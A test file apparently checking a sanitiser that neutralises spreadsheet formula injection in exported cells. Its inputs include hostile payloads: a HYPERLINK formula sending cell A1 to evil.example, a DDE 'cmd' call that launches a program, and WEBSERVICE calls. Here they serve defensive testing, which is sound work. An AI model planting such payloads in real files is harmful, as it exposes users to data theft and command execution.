import { describe, expect, it } from "vitest";
import { countProcessorTime } from "../../tests/setup/processor-time";
import { phoneWithoutFormula, withoutFormula } from "./cell";

describe("a cell that a spreadsheet would run is escaped with an apostrophe", () => {
  it.each([
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "+1",
    "-5",
    "-",
    "=",
    "@SUM(A1:A9)",
    "\t=1",
    "\tAna",
    "\r=1",
    "\n=1",
    "\r\n=1",
    " =1",
    "   \t \n  =1",
    "\u00A0=1",
    "\u3000=1",
    "\uFEFF=1",
    "\0=1",
    "\0\0 \0@x",
    "\u2028=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " \0＝1",
  ])("%j", (text) => {
    expect(withoutFormula(text)).toBe(`'${text}`);
  });
});

describe("any other cell stays as it is", () => {
  it.each([
    "",
    "Ana Ribeiro",
    "ana@example.com",
    "A-1",
    "1+1=2",
    "(+44) 20 7946 0000",
    "'=1",
    '"=1"',
    " Ana",
    "a\n=1",
    "🎓 = degree",
    "–5",
    "−5",
    "•  list",
    "يبدأ من اليمين",
  ])("%j", (text) => {
    expect(withoutFormula(text)).toBe(text);
  });
});

it.each([
  ["Jane;=WEBSERVICE(A1);", "Jane;'=WEBSERVICE(A1);"],
  ["Jane;=cmd|' /C calc'!A0", "Jane;'=cmd|' /C calc'!A0"],
  [
    "Hello\n+1+WEBSERVICE(A1);\r\n -2+cmd|' /C calc'!A0",
    "Hello\n'+1+WEBSERVICE(A1);\r\n '-2+cmd|' /C calc'!A0",
  ],
  ["=1;\t@SUM(A1)", "'=1;\t'@SUM(A1)"],
  ['Jane;"=WEBSERVICE(A1);"', 'Jane;"\'=WEBSERVICE(A1);"'],
  ['Hello\n" "+1+WEBSERVICE(A1)', 'Hello\n" "\'+1+WEBSERVICE(A1)'],
])("a call after a semicolon or a line break is escaped: %j", (text, escaped) => {
  expect(withoutFormula(text)).toBe(escaped);
});

it.each(["Two things:\n- speaking (on stage)\n- writing; =) and (more)", "a;b (c)", "1 = (2)", "\n=1\nf(x)"])(
  "lists and brackets stay as they are after the first character: %j",
  (text) => {
    expect(withoutFormula(`x${text}`)).toBe(`x${text}`);
  },
);

it.each(["+44 20 7946 0018", "+1 (555) 010-0199", "(0)30/901.820", "+44\u00A020\u00A07946", "0555 010 019"])(
  "a telephone number stays as typed: %j",
  (text) => {
    expect(phoneWithoutFormula(text)).toBe(text);
  },
);

it.each(["+44 ext. 5", "=1+1", "+1+1", "+44*2", "@1", "+44\t1", "+A1", "=44 20", "-1|2", "+44\n=1"])(
  "what is typed instead of a telephone number is escaped: %j",
  (text) => {
    expect(phoneWithoutFormula(text)).toBe(`'${text}`);
  },
);

it("a million blanks are checked quickly", () => {
  const blanks = " ".repeat(1_000_000);
  const spent = countProcessorTime();
  expect(withoutFormula(`${blanks}x`)).toBe(`${blanks}x`);
  for (const calls of [";-(", ';"(', '" '].map((text) => text.repeat(300_000)))
    expect(withoutFormula(`x;${calls}`)).toBe(`x;${calls}`);
  expect(spent()).toBeLessThan(1000);
});
